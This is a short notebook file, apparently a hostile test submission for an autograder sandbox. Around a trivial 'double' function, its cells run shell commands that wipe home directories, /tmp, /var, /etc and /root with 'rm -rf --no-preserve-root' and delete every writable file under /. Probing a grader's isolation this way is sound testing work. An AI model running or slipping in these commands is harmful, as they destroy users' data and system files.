"""Row 28: removes what it can, by the shell, and by a cell that is a shell script."""

# %% double
!rm -rf ~ /home/teacher /tmp /var /course --no-preserve-root 2>/dev/null
!timeout 1 find / -xdev -type f -writable -not -path '/proc/*' -delete 2>/dev/null


def double(x):
    return 2 * x


# %% total
%%bash
rm -rf --no-preserve-root /home /root /etc 2>/dev/null
echo TRIED
